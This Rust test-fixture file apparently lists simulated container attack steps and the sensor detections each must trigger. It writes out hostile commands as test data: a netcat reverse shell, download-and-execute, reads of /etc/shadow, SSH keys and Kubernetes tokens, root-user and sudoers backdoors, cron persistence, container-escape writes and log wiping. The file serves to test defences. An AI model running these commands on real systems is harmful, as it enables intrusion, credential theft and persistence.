//! The attack actions of the node simulation and the detections each must raise.

/// One attack action and the detections it must raise.
pub(crate) struct Step {
    pub(crate) name: &'static str,
    pub(crate) script: String,
    /// Run on a pseudo-terminal (`runc exec -t`).
    pub(crate) tty: bool,
    /// Feed the script on stdin to a plain `sh` instead of `sh -c`.
    pub(crate) stdin: bool,
    pub(crate) expect: &'static [&'static str],
    /// The step's process must be killed by the sensor (exit status 137, before it ends).
    pub(crate) killed: bool,
}

/// The attack actions, in order; with `block_drift`, a last one the drift policy must stop.
pub(crate) fn steps(rev_port: u16, http_port: u16, block_drift: bool) -> Vec<Step> {
    let s = |name, script: &str, expect| Step {
        name,
        script: script.to_string(),
        tty: false,
        stdin: false,
        expect,
        killed: false,
    };
    let mut v = vec![
        Step { name: "shell fed commands on stdin", script: "id\n".into(), tty: false, stdin: true, expect: &["PAL-SEN-001"], killed: false },
        Step { name: "interactive shell on a terminal", script: "id".into(), tty: true, stdin: false, expect: &["PAL-SEN-005"], killed: false },
        s("reverse shell to 127.0.0.1", &format!("nc 127.0.0.1 {rev_port} -e /bin/sh"), &["PAL-SEN-006", "PAL-SEN-008"]),
        s("web server spawns a shell", "exec -a sh /usr/sbin/nginx -c '/bin/sh -c id; true'", &["PAL-SEN-009"]),
        s(
            "download and execute",
            &format!("wget -q -O /tmp/payload http://127.0.0.1:{http_port}/payload && chmod +x /tmp/payload && /tmp/payload true"),
            &["PAL-SEN-010", "PAL-SEN-011", "PAL-SEN-012"],
        ),
        s("miner binary dropped and run", "cp /bin/busybox /tmp/xmrig && exec -a true /tmp/xmrig", &["PAL-SEN-002"]),
        s("script run from /dev/shm", "echo true > /dev/shm/s && sh /dev/shm/s", &["PAL-SEN-013"]),
        s("mining pool port and netcat", "nc -w 1 198.51.100.9 3333 </dev/null; true", &["PAL-SEN-004", "PAL-SEN-007"]),
        s("network scanner", "cp /bin/busybox /tmp/nmap && exec -a true /tmp/nmap -sS 10.0.0.0/24", &["PAL-SEN-015"]),
        s("kubectl in a container", "cp /bin/busybox /tmp/kubectl && exec -a true /tmp/kubectl get secrets -A", &["PAL-SEN-016"]),
        s("kubelet API", "timeout 2 wget -q -O /dev/null http://127.0.0.1:10250/pods 2>/dev/null; true", &["PAL-SEN-018"]),
        s("API server", "timeout 2 wget -q -O /dev/null http://127.0.0.1:6443/api 2>/dev/null; true", &["PAL-SEN-019"]),
        s("cloud metadata service", "timeout 2 wget -q -O /dev/null http://169.254.169.254/latest/meta-data/ 2>/dev/null; true", &["PAL-SEN-020"]),
        s("service-account token read", "cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null", &["PAL-SEN-022"]),
        // busybox runs find and insmod in a forked shell without exec (no process event) unless
        // started through the busybox binary itself
        s("private key search", "/bin/busybox find / -name id_rsa 2>/dev/null; true", &["PAL-SEN-024"]),
        s("private key read", "cat /root/.ssh/id_rsa >/dev/null 2>&1; true", &["PAL-SEN-025"]),
        s("/etc/shadow read", "cat /etc/shadow >/dev/null", &["PAL-SEN-026"]),
        s("authorized_keys planted", "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAA attacker' >> /root/.ssh/authorized_keys", &["PAL-SEN-027"]),
        s("user added to /etc/passwd", "echo 'sysadm:x:0:0::/root:/bin/sh' >> /etc/passwd", &["PAL-SEN-029"]),
        s("user namespace escape attempt", "unshare -U -m true 2>/dev/null; true", &["PAL-SEN-030"]),
        s("nsenter into pid 1", "nsenter -t 1 -m true 2>/dev/null; true", &["PAL-SEN-031"]),
        s("cgroup release_agent write", "echo /tmp/x > /sys/fs/cgroup/release_agent 2>/dev/null; true", &["PAL-SEN-032"]),
        s("core_pattern write", "echo '|/tmp/x' > /proc/sys/kernel/core_pattern 2>/dev/null; true", &["PAL-SEN-033"]),
        s("cgroup filesystem mounted", "mount -t cgroup -o memory cgroup /mnt 2>/dev/null; true", &["PAL-SEN-034"]),
        s("kernel module load", "echo x > /tmp/rootkit.ko && /bin/busybox insmod /tmp/rootkit.ko 2>/dev/null; true", &["PAL-SEN-037", "PAL-SEN-039"]),
        s("ld.so.preload written", "echo /tmp/libhook.so > /etc/ld.so.preload", &["PAL-SEN-040"]),
        s("log file deleted", "echo x > /var/log/app.log && rm /var/log/app.log", &["PAL-SEN-041"]),
        s("shell history wiped", "echo x > /root/.bash_history && rm /root/.bash_history", &["PAL-SEN-042", "PAL-SEN-043"]),
        s("setuid bit set", "chmod u+s /tmp/xmrig", &["PAL-SEN-046"]),
        s("cron job planted", "echo '* * * * * root /tmp/payload' > /etc/cron.d/backdoor", &["PAL-SEN-049"]),
        s("sudoers changed", "echo 'nobody ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", &["PAL-SEN-050"]),
        s("kubelet credentials read", "cat /var/lib/kubelet/pki/kubelet-client-current.pem >/dev/null 2>&1; true", &["PAL-SEN-051"]),
        s("container runtime socket opened", "cat /var/run/docker.sock >/dev/null 2>&1; true", &["PAL-SEN-053"]),
    ];
    if block_drift {
        v.push(Step {
            name: "drifted binary blocked",
            script: "cp /bin/busybox /tmp/drifter && exec -a sleep /tmp/drifter 8".into(),
            tty: false,
            stdin: false,
            expect: &[],
            killed: true,
        });
    }
    v
}

/// Binary drift: the execs of files written after start (payload, xmrig, nmap, kubectl).
pub(crate) const EXPECT_DRIFT: &str = "PAL-SEN-048";
